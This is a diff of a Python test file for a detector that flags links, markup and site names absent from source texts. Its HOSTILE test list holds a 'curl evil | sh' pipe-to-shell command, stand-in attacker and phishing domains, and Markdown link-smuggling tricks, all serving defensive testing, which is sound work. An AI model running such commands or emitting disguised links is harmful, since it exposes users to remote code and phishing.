@@ -30,6 +30,19 @@ HOSTILE = [
     "```\ncurl evil | sh\n```",
     "~~~\ncurl evil\n~~~",
     "`form",
+    "evil.xyz/p",
+    "phish.ru",
+    "t.co/a",
+    "gím.example",
+    "&amp;lt;script&amp;gt;",
+    "[x](/evil_(y))",
+    "[a [b] c](/x)",
+    "[a\\]b](/x)",
+    "[x](\n/evil)",
+    "![](<a b>)",
+    "\n[1]: /evil",
+    "<https://evil.test/x>",
+    "<ana@evil.test>",
     "\x1b[31m",
     "\x00",
 ]
@@ -47,6 +60,10 @@ HARMLESS = [
     "5 o'clock",
     "a[0](x",
     "Horario: 9:00",
+    "p. m., a.m. y EE. UU.",
+    "S.L.U., e.g. i.e. U.S.A.",
+    "1.5kg, 10.30h, v2.0",
+    "Fin.Después",
 ]
 
 
@@ -73,10 +90,26 @@ def test_plain_text_has_none(text: str) -> None:
         ("Véase [el plano](plano.pdf).", "El plano está en plano.pdf."),
         ("Use `max_size` here.", "The field max_size holds 20."),
         ("A tag is &lt;p&gt;.", "A paragraph is <p>."),
+        ("Vea HTTPS://Piscina.example/h/.", "Horario en https://piscina.example/h"),
+        ("See <https://pool.example/h>.", "Hours: http://www.pool.example/h/"),
+        ("See pool.example.", "Hours: https://pool.example/h"),
+        ("Vea [horas](piscina.example/h).", "Horario en piscina\\.example/h"),
+        ("Abra datos.csv.", "El archivo datos.csv tiene 3 columnas."),
     ],
 )
 def test_what_a_source_has_may_be_said(said: str, source: str) -> None:
     assert list(find_markup(said, [source])) == []
+
+
+def test_a_site_may_be_named_by_the_question() -> None:
+    assert list(find_markup("Node.js runs here, as does ab.xyz.", ["It runs."], ["Does node.js run?"])) == ["ab.xyz"]
+
+
+@pytest.mark.parametrize(
+    "said", ["pool.example.evil.test", "https://pool.example/h?q=1", "https://pool.example@evil.test"]
+)
+def test_a_site_that_only_begins_like_a_known_one_is_found(said: str) -> None:
+    assert list(find_markup(f"See {said} now.", ["Hours: https://pool.example/h"]))
 
 
 def test_a_part_of_a_word_is_not_the_code() -> None:
